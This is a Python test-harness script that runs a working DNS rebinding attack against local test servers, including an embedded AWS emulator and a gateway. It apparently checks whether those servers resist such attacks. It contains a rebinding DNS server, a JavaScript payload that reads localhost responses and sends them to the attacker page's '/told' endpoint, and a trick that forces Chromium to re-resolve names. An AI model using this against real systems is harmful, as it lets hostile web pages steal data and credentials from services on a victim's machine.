"""A web page whose name comes to mean this machine while it is open, in a network of its own with a DNS of its own.

Run as a script it attacks three servers, one after the other, and prints as JSON what the page has read of each.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

from fleet_emulator.server import EmbeddedAws
from tests.support.embedded_app.host import RecordingHost
from tests.support.embedded_keys import KEYS

PAGES, MACHINE, DNS = "127.0.0.2", "127.0.0.1", "127.0.0.1"
"""Where the page is, where what it attacks is, and who answers names."""
NAME = "page.example"
SECRET = "a secret of this machine"
SECONDS = 100
"""How long a page tries."""
PATHS = {
    "aws": "/?Action=ListRoles&Version=2010-05-08",
    "gateway": "/endpoints/any/invocations",
    "status": "/_fleet/status",
}
A, IN = 1, 1
PAGE = """<!doctype html><p>of the page</p><script>
const path = new URLSearchParams(location.search).get("path");
const tell = (said) => fetch("http://ADDRESS/told?said=" + encodeURIComponent(said), {mode: "no-cors"});
(async () => {
  for (;;) {
    try {
      const answer = await fetch(path, {cache: "no-store"});
      const said = await answer.text();
      if (!said.includes("of the page")) return tell(answer.status + " " + said.slice(0, 400));
    } catch (error) {}
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
})();
</script>"""


class ChangingDns(threading.Thread):
    """Answers NAME by PAGES until it is rebound, then by MACHINE, each for no time; no other name is known."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.address = PAGES
        self.answers: list[str] = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((DNS, 53))

    def run(self) -> None:
        while True:
            query, client = self._socket.recvfrom(4096)
            self._socket.sendto(self._answer(query), client)

    def _answer(self, query: bytes) -> bytes:
        at, labels = 12, []
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += 1 + query[at]
        question = query[12 : at + 5]
        (kind,) = struct.unpack("!H", query[at + 1 : at + 3])
        is_known, record = ".".join(labels).lower() == NAME, b""
        if is_known and kind == A:
            self.answers.append(self.address)
            record = struct.pack("!HHHIH", 0xC00C, A, IN, 0, 4) + socket.inet_aton(self.address)
        flags = 0x8580 if is_known else 0x8583  # an authoritative answer, or that there is no such name
        return query[:2] + struct.pack("!HHHHH", flags, 1, int(bool(record)), 0, 0) + question + record


@contextmanager
def pages(port: int, dns: ChangingDns) -> Iterator[tuple[threading.Event, list[str]]]:
    """The attacker's server; what its page has told, and when it has."""
    event, text = threading.Event(), list[str]()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            place = urlsplit(self.path)
            if place.path == "/told":
                text.extend(parse_qs(place.query)["said"])
                event.set()
            body = PAGE.replace("ADDRESS", f"{PAGES}:{port}").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)
            dns.address = MACHINE  # whoever asks from now on

        def log_message(self, format: str, *_: object) -> None:
            pass

    with ThreadingHTTPServer((PAGES, port), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield event, text
        server.shutdown()


@contextmanager
def serve_without_guard() -> Iterator[int]:
    """A server that tells anybody its secret, by its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(SECRET.encode())

        def log_message(self, format: str, *_: object) -> None:
            pass

    with ThreadingHTTPServer((MACHINE, 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield int(server.server_address[1])
        server.shutdown()


def attack(browser: str, dns: ChangingDns, port: int, path: str) -> dict[str, list[str]]:
    """The text that a page of NAME reads of a port of this machine, and which answers its name had."""
    dns.address = PAGES
    dns.answers.clear()
    with pages(port, dns) as (report, text), tempfile.TemporaryDirectory() as profile:
        command = [
            *(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"),
            *(f"--user-data-dir={profile}", "--proxy-server=direct://", "--remote-debugging-port=0"),
            f"http://{NAME}:{port}/?path={quote(path, safe='')}",
        ]
        chromium = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        )
        try:
            for number in range(1, SECONDS):
                if report.wait(1.0):
                    break
                # Chromium keeps an answer for a minute, whatever its time to live, or until its network changes.
                change = ["ip", "address", "replace", f"127.0.1.{number}/8", "dev", "lo"]
                subprocess.run(change, check=True)
        finally:
            os.killpg(chromium.pid, signal.SIGKILL)
            chromium.wait()
    return {"said": text, "answers": list(dict.fromkeys(dns.answers))}


def in_a_network_of_its_own(browser: str) -> dict[str, dict[str, list[str]]]:
    """The attacks on a server that is not protected, on the embedded AWS and on the gateway.

    Raises:
        CalledProcessError, OSError: this machine does not let this user have such a network.
    """
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    with tempfile.NamedTemporaryFile("w", suffix=".conf") as settings:
        settings.write(f"nameserver {DNS}\n")
        settings.flush()
        subprocess.run(["mount", "--bind", settings.name, "/etc/resolv.conf"], check=True)
        dns = ChangingDns()
        dns.start()
        with serve_without_guard() as port:
            result = {"unprotected": attack(browser, dns, port, "/")}
        aws = EmbeddedAws(RecordingHost(), _gateway, keys=KEYS)
        aws.start()
        try:
            port = urlsplit(aws.url).port or 0
            for name, path in PATHS.items():
                result[name] = attack(browser, dns, port, path)
        finally:
            aws.stop()
        subprocess.run(["umount", "/etc/resolv.conf"], check=True)
    return result


def _gateway(_environ: Any, start_response: Any) -> list[bytes]:
    start_response("200 OK", [])
    return [SECRET.encode()]


if __name__ == "__main__":
    print(json.dumps(in_a_network_of_its_own(sys.argv[1])))
